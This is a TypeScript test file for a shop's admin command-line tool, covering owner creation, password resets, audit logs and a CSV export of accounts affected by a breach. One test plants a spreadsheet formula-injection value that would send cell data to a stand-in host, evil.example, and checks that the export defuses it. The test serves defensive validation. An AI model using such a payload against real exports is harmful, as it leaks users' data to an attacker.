import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { email } from '../contract/text.ts'
import { newSecret } from '../server/modules/staff/totp.ts'
import { openDatabase } from '../server/platform/database.ts'
import { startEmbeddedPostgres } from '../server/platform/embedded-postgres.ts'
import { passwordFits } from '../server/platform/passwords.ts'
import { readSecretKey } from '../server/platform/secrets.ts'
import { openSigning } from '../server/platform/signing.ts'
import { runScript } from '../test/run-script.ts'

const dataDir = mkdtempSync(join(tmpdir(), 'shop-admin-'))
afterAll(() => rmSync(dataDir, { recursive: true, force: true }))

/** What the command says to these lines, and how it ends. */
const createOwner = (args: string[], typed: string) => run(['create-owner', ...args], typed)

const run = (args: string[], typed?: string) =>
  runScript('admin', args, { DATABASE_URL: '', DATA_DIR: dataDir }, typed)

test('the first owner comes from the command line, on an empty database or beside a running shop', async () => {
  const first = await createOwner(['First@example.com', 'First Owner'], 'a-loom-and-four-words\n')
  expect(first).toMatchObject({ code: 0, said: expect.stringContaining('First Owner is an owner now') })
  expect(first.said).not.toContain('a-loom')

  const running = await startEmbeddedPostgres({ dataDir, durable: false })
  const second = await createOwner([], 'second@example.com\nSecond Owner\nanother-loom-and-words\n')
  expect(second).toMatchObject({ code: 0 })
  const again = await createOwner(['first@example.com', 'First Owner'], 'a-loom-and-four-words\n')
  expect(again).toMatchObject({ code: 1, said: expect.stringContaining('belongs to somebody here already') })

  const db = openDatabase(running.owner, 1)
  await db`
    insert into staff_sessions (id, token_hash, staff_id, address, device)
    select gen_random_uuid(), sha256(email::bytea), id, '127.0.0.1', 'A phone' from staff`
  const anew = await run(['set-password', 'Second@example.com'], 'forgotten-and-found-again\n')
  expect(anew).toMatchObject({ code: 0, said: expect.stringContaining('has a new password') })
  expect(await run(['set-password', 'third@example.com'], 'forgotten-and-found-again\n')).toMatchObject({
    code: 1,
    said: expect.stringContaining('nobody of that account'),
  })
  expect(await db`select name from staff_sessions join staff on staff.id = staff_id`).toEqual([
    { name: 'First Owner' },
  ])
  await db`update staff set totp_secret = ${newSecret()}, totp_confirmed_at = now() where name = 'First Owner'`
  const off = await run(['take-apps-off'])
  expect(off).toMatchObject({
    code: 0,
    said: expect.stringContaining('Their apps are off: first@example.com'),
  })
  expect(await db`select from staff where totp_confirmed_at is not null`).toHaveLength(0)
  expect(
    await db`select action, subject from staff_audit where staff_id is null order by id`,
    'what the command line did',
  ).toEqual([
    { action: 'staff.added', subject: 'first@example.com' },
    { action: 'staff.added', subject: 'second@example.com' },
    { action: 'staff.password-changed', subject: 'second@example.com' },
    { action: 'staff.second-factor-removed', subject: 'first@example.com' },
  ])
  const owners = await db<{ email: string; role: string; hash: string }[]>`
    select email, role, password_hash as hash from staff order by email`
  await db.end()
  await running.stop()
  expect(owners).toMatchObject([
    { email: 'first@example.com', role: 'owner' },
    { email: 'second@example.com', role: 'owner' },
  ])
  expect(await passwordFits(owners[0]!.hash, 'a-loom-and-four-words')).toBe(true)
  expect(await passwordFits(owners[1]!.hash, 'forgotten-and-found-again')).toBe(true)
}, 60_000)

test('in the list of whom a breach concerns a mailbox that a spreadsheet would compute is text', async () => {
  const mailbox = email.parse('=HYPERLINK("https://evil.example/?"&C2,"Bill")&"@mail.example"')
  // An empty shop has its tables by this.
  await run(['take-apps-off'])
  const running = await startEmbeddedPostgres({ dataDir, durable: false })
  const db = openDatabase(running.owner, 1)
  await db`
    insert into accounts (id, code, name, email, phone, last_seen_at) values
      (gen_random_uuid(), 'A', 'A Shopper', ${mailbox}, '9876543210', now()),
      (gen_random_uuid(), 'B', 'A Shopper', 'b@example.com', null, now()),
      (gen_random_uuid(), 'C', 'A Shopper', 'c@example.com', null, '2020-01-01')`
  await db`
    insert into addresses (account_id, first_name, last_name, street, city, state, zipcode, country, phone)
    select id, 'A', 'Shopper', 'A street', 'Jaipur', 'Rajasthan', '302001', 'India', phone from accounts where code = 'A'`
  const [{ key }] = await db<[{ key: string }]>`select mailbox_key('gone@example.com') as key`
  const mark = openSigning(readSecretKey(undefined, dataDir)).mark(key)
  await db`
    insert into sealed_consents (id, mailbox_mark, purpose, granted, source, wording, at, sealed_at)
    select gen_random_uuid(), ${mark}, purpose, granted, 'signup', '1', '2026-01-01', '2026-02-01'
    from (values ('terms', true), ('utility', false)) as said (purpose, granted)`
  await db.end()
  const { said } = await run(['affected-accounts', '2099-01-01T00:00:00Z', '2021-01-01T00:00:00Z'])
  const sealed = await run(['sealed-consents', 'Gone@Example.com'])
  await running.stop()
  expect(sealed.said, 'and of somebody who is gone, what they agreed to').toMatch(
    /yes to terms, signup: 1; .*\n.*no to utility, signup: 1; /,
  )
  const lines = said.split('\r\n')
  expect(lines[0]).toBe('account,email,phone,language,orders,address')
  expect(lines.slice(1).toSorted()).toEqual([
    '',
    `A,"'${mailbox.replaceAll('"', '""')}",9876543210,,no,yes`,
    'B,b@example.com,,,no,no',
  ])
}, 60_000)

test('a command with a word too many does nothing, and says how to ask', async () => {
  for (const args of [
    ['take-apps-off', 'first@example.com'],
    ['create-owner', 'third@example.com', 'Third', 'Owner'],
    ['set-password', 'first@example.com', 'a-loom-and-four-words'],
    ['affected-accounts', '2099-01-01T00:00:00Z', '2099-01-01T00:00:00Z', 'more'],
    ['sealed-consents', 'first@example.com', '9876543210'],
  ])
    expect(await run(args, 'a-loom-and-four-words\n'), args[0]).toMatchObject({
      code: 1,
      said: expect.stringMatching(/^npm run admin/),
    })
}, 60_000)

test.each([
  [['not an address', 'A'], 'a-loom-and-four-words\n', 'is not an e-mail address'],
  [['short@example.com', 'A'], 'short\n', 'At least 12 characters'],
  [['nothing@example.com', 'A'], '', 'At least 12 characters'],
])('%j with what is typed is refused', async (args, typed, words) => {
  expect(await createOwner(args, typed)).toMatchObject({ code: 1, said: expect.stringContaining(words) })
})
